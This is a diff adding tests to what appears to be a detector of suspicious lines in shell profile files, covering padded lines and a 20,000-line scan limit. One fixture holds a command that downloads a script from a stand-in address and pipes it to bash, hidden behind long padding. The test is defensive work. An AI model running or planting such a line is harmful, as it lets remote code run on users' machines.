@@ -93,3 +93,14 @@ if [ -e /tmp/.X0-lock ]; then echo x; fi
 test('what developers have in their profiles says nothing openly', () => {
   expect(openly({ '/home/ann/.bashrc': developers, '/home/ann/.zshrc': developers })).toEqual([]);
 });
+
+test('a line that is padded hides nothing', () => {
+  const line = `: ${'x'.repeat(9000)}; curl -s http://198.51.100.7/a.sh | bash\n`;
+  expect(openly({ '/home/ann/.profile': line })).toMatchObject([reasons('fetches-and-runs')]);
+});
+
+test('lines beyond the bound are a gap', () => {
+  expect(told({ '/home/ann/.profile': `${'\n'.repeat(20_001)}ls\n` })).toContainEqual({
+    gap: { code: 'limit-count', what: 'only the first 20000 lines are looked at', path: '/home/ann/.profile' },
+  });
+});
